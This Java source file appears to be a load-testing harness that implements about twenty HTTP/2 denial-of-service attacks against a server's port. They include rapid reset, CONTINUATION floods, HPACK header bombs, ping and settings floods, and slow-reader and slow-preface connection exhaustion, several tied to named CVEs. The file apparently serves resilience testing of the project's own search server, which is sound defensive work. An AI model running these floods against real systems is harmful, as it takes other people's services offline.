package io.siskin.loadtest.attack;

import static io.siskin.loadtest.attack.RawConnection.CONTINUATION;
import static io.siskin.loadtest.attack.RawConnection.DATA;
import static io.siskin.loadtest.attack.RawConnection.END_HEADERS;
import static io.siskin.loadtest.attack.RawConnection.END_STREAM;
import static io.siskin.loadtest.attack.RawConnection.HEADERS;
import static io.siskin.loadtest.attack.RawConnection.PING;
import static io.siskin.loadtest.attack.RawConnection.PRIORITY;
import static io.siskin.loadtest.attack.RawConnection.RST_STREAM;
import static io.siskin.loadtest.attack.RawConnection.SETTINGS;
import static io.siskin.loadtest.attack.RawConnection.WINDOW_UPDATE;
import static io.siskin.loadtest.attack.RawConnection.callHeaders;
import static io.siskin.loadtest.attack.RawConnection.frame;
import static io.siskin.loadtest.attack.RawConnection.number;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.function.BooleanSupplier;

/** What a hostile client does. */
enum Attack {
  /** Calls that are reset at once (CVE-2023-44487). */
  RAPID_RESET("calls that are reset at once") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
      byte[] headers = callHeaders(SEARCH);
      for (int stream = 1; goesOn.getAsBoolean() && stream > 0; stream += 2) {
        c.send(frame(HEADERS, END_HEADERS, stream, headers));
        c.send(frame(RST_STREAM, 0, stream, number(8)));
        c.skipInput();
      }
    }
  },
  /** Calls that the server has to reset (CVE-2025-8671). */
  MADE_YOU_RESET("calls that the server has to reset") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
      byte[] headers = callHeaders(SEARCH);
      for (int stream = 1; goesOn.getAsBoolean() && stream > 0; stream += 2) {
        c.send(frame(HEADERS, END_HEADERS, stream, headers));
        // An increment of 0 is an error of the stream.
        c.send(frame(WINDOW_UPDATE, 0, stream, number(0)));
        c.skipInput();
      }
    }
  },
  /** Headers that never end (CVE-2024-27316 and its kind). */
  CONTINUATION_FLOOD("headers that never end") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
      c.send(frame(HEADERS, 0, 1, callHeaders(SEARCH)));
      ByteArrayOutputStream more = new ByteArrayOutputStream();
      RawConnection.header(more, "x-more", "v".repeat(4_000));
      while (goesOn.getAsBoolean()) {
        c.send(frame(CONTINUATION, 0, 1, more.toByteArray()));
        c.skipInput();
      }
    }
  },
  /** Headers that go on with nothing. */
  EMPTY_CONTINUATIONS("headers that go on with nothing") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
      c.send(frame(HEADERS, 0, 1, callHeaders(SEARCH)));
      flood(c, frame(CONTINUATION, 0, 1), goesOn);
    }
  },
  /** Settings that must be acknowledged (CVE-2019-9515). */
  SETTINGS_FLOOD("settings") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
      flood(c, frame(SETTINGS, 0, 0), goesOn);
    }
  },
  /** Pings that must be answered (CVE-2019-9512). */
  PING_FLOOD("pings") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
      flood(c, frame(PING, 0, 0, new byte[8]), goesOn);
    }
  },
  /** Data frames without data (CVE-2019-9518). */
  EMPTY_DATA("data frames without data") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
      c.send(frame(HEADERS, END_HEADERS, 1, callHeaders(SEARCH)));
      flood(c, frame(DATA, 0, 1), goesOn);
    }
  },
  /** Priorities of streams (CVE-2019-9513). */
  PRIORITY_FLOOD("priorities") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
      for (int stream = 3; goesOn.getAsBoolean() && stream > 0; stream += 2) {
        c.send(frame(PRIORITY, 0, stream, new byte[] {0, 0, 0, 1, 16}));
        c.skipInput();
      }
    }
  },
  /** Windows that are opened by one byte. */
  WINDOW_UPDATES("window updates") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
      for (int i = 0; goesOn.getAsBoolean() && i < 1 << 30; i++) {
        c.send(frame(WINDOW_UPDATE, 0, 0, number(1)));
        c.skipInput();
      }
    }
  },
  /** Calls with headers just above the limit. */
  LARGE_HEADERS("headers of 60 KiB") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
      ByteArrayOutputStream block = new ByteArrayOutputStream();
      block.writeBytes(callHeaders(SEARCH));
      RawConnection.header(block, "x-large", "v".repeat(15_000));
      byte[] more = block.toByteArray();
      for (int stream = 1; goesOn.getAsBoolean() && stream > 0; stream += 2) {
        c.send(frame(HEADERS, 0, stream, more));
        for (int i = 0; i < 3; i++) {
          c.send(frame(CONTINUATION, i == 2 ? END_HEADERS : 0, stream, more));
        }
        c.skipInput();
      }
    }
  },
  /** One byte that means 4,000 (CVE-2016-6581 and its kind). */
  HEADER_BOMB("headers that name a large one a thousand times") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
      ByteArrayOutputStream first = new ByteArrayOutputStream();
      first.writeBytes(callHeaders(SEARCH));
      RawConnection.keptHeader(first, "x-kept", "v".repeat(4_000));
      for (int stream = 1; goesOn.getAsBoolean() && stream > 0; stream += 2) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(stream == 1 ? first.toByteArray() : callHeaders(SEARCH));
        for (int i = 0; i < 1_000; i++) {
          block.write(0x80 | 62);
        }
        c.send(frame(HEADERS, END_HEADERS, stream, block.toByteArray()));
        c.skipInput();
      }
    }
  },
  /** More calls than a connection may have open, none of which goes on. */
  OPEN_CALLS("calls without a message") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
      byte[] headers = callHeaders(SEARCH);
      for (int stream = 1; goesOn.getAsBoolean() && stream > 0; stream += 2) {
        c.send(frame(HEADERS, END_HEADERS, stream, headers));
        c.skipInput();
      }
    }
  },
  /** Messages that are none. */
  MALFORMED_MESSAGES("messages that cannot be decoded") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
      byte[] headers = callHeaders(SEARCH);
      Random random = new Random(1);
      for (int stream = 1; goesOn.getAsBoolean() && stream > 0; stream += 2) {
        byte[] junk = new byte[1 + random.nextInt(200)];
        random.nextBytes(junk);
        c.send(frame(HEADERS, END_HEADERS, stream, headers));
        c.send(frame(DATA, END_STREAM, stream, RawConnection.message(junk)));
        c.skipInput();
      }
    }
  },
  /** Searches whose answers nobody reads. */
  SLOW_READERS("searches whose answers are not read") {
    @Override
    int receiveBytes() {
      return 4_096;
    }

    @Override
    int hits() {
      return 1_000;
    }

    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      // Streams get a window of nothing, so that all answers stay with the server.
      c.begin(4, 0);
      byte[] headers = callHeaders(SEARCH);
      byte[] message = RawConnection.message(search);
      for (int stream = 1; goesOn.getAsBoolean() && stream > 0; stream += 2) {
        c.send(frame(HEADERS, END_HEADERS, stream, headers));
        c.send(frame(DATA, END_STREAM, stream, message));
        pause(goesOn, 2);
      }
    }
  },
  /** Searches that are right, as fast as they can be sent. */
  SEARCH_FLOOD("searches as fast as they can be sent") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
      // So that the answers are never held up.
      c.send(frame(WINDOW_UPDATE, 0, 0, number(1 << 30)));
      byte[] headers = callHeaders(SEARCH);
      byte[] message = RawConnection.message(search);
      for (int stream = 1; goesOn.getAsBoolean() && stream > 0; stream += 2) {
        c.send(frame(HEADERS, END_HEADERS, stream, headers));
        c.send(frame(DATA, END_STREAM, stream, message));
        c.skipInput();
      }
    }
  },
  /** Random bytes after the preface. */
  GARBAGE("random bytes") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      Random random = new Random(System.nanoTime());
      byte[] junk = new byte[4_096];
      if (random.nextBoolean()) {
        c.begin();
      }
      while (goesOn.getAsBoolean()) {
        random.nextBytes(junk);
        c.send(junk);
        c.skipInput();
      }
    }
  },
  /** Another protocol. */
  HTTP_1("requests of HTTP/1.1") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      flood(
          c,
          "GET / HTTP/1.1\r\nHost: localhost\r\n\r\n".getBytes(StandardCharsets.US_ASCII),
          goesOn);
    }
  },
  /** Connections that say nothing. */
  SILENT("2,000 connections that say nothing") {
    @Override
    int connections() {
      return 2_000;
    }

    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) {
      // Nothing is said.
    }
  },
  /** Connections that send their preface a byte at a time. */
  SLOW_PREFACE("500 connections that send one byte a second") {
    @Override
    int connections() {
      return 500;
    }

    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.send(new byte[] {'P'});
    }

    @Override
    void keepOn(RawConnection c) throws IOException {
      c.send(new byte[] {'R'});
    }
  },
  /** Connections that are opened and closed. */
  CONNECTION_FLOOD("connections that are opened and closed") {
    @Override
    void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn) throws IOException {
      c.begin();
    }
  };

  private static final String SEARCH = "/siskin.v1.SearchService/Search";

  /** What it is, for the table. */
  final String words;

  Attack(String words) {
    this.words = words;
  }

  /**
   * Does it on one connection, until the server closes that or time is over.
   *
   * @param c the connection
   * @param search a request of a search, encoded
   * @param goesOn asked before each step
   * @throws IOException when the server has closed the connection
   */
  abstract void onConnection(RawConnection c, byte[] search, BooleanSupplier goesOn)
      throws IOException;

  /** Returns how many connections are held open at a time; 1 for one after the other. */
  int connections() {
    return 1;
  }

  /** Returns how much of what the server sends the kernel keeps, in bytes; 0 for its own choice. */
  int receiveBytes() {
    return 0;
  }

  /** Returns how many hits its searches want, with their fields if these are many. */
  int hits() {
    return 10;
  }

  /** Does what keeps a connection from being silent; called each second. */
  void keepOn(RawConnection c) throws IOException {
    // Most are silent.
  }

  /**
   * Attacks for some time.
   *
   * @param port the server's port
   * @param search a request of a search, encoded
   * @param goesOn asked often; false when time is over
   * @param open has the connections that are open, so that they can be closed under a client that
   *     hangs, because the server does not read what it sends
   * @return how many connections the server has closed
   */
  int run(int port, byte[] search, BooleanSupplier goesOn, Set<RawConnection> open) {
    return connections() == 1 ? oneByOne(port, search, goesOn, open) : many(port, search, goesOn);
  }

  private int oneByOne(int port, byte[] search, BooleanSupplier goesOn, Set<RawConnection> open) {
    int closed = 0;
    while (goesOn.getAsBoolean()) {
      try (RawConnection connection = new RawConnection(port, receiveBytes())) {
        open.add(connection);
        onConnection(connection, search, goesOn);
        open.remove(connection);
      } catch (IOException ended) {
        closed += goesOn.getAsBoolean() ? 1 : 0;
      }
    }
    return closed;
  }

  private int many(int port, byte[] search, BooleanSupplier goesOn) {
    List<RawConnection> open = new ArrayList<>();
    int closed = 0;
    try {
      for (int i = 0; i < connections() && goesOn.getAsBoolean(); i++) {
        try {
          RawConnection connection = new RawConnection(port, receiveBytes());
          open.add(connection);
          onConnection(connection, search, goesOn);
        } catch (IOException refused) {
          closed++;
        }
      }
      while (goesOn.getAsBoolean()) {
        pause(goesOn, 1_000);
        for (RawConnection connection : open) {
          try {
            keepOn(connection);
          } catch (IOException ended) {
            // Counted below.
          }
        }
      }
      for (RawConnection connection : open) {
        closed += connection.isClosedWithin(1) ? 1 : 0;
      }
      return closed;
    } finally {
      open.forEach(RawConnection::close);
    }
  }

  private static void flood(RawConnection c, byte[] bytes, BooleanSupplier goesOn)
      throws IOException {
    while (goesOn.getAsBoolean()) {
      c.send(bytes);
      c.skipInput();
    }
  }

  private static void pause(BooleanSupplier goesOn, long millis) {
    try {
      if (goesOn.getAsBoolean()) {
        Thread.sleep(millis);
      }
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }
}
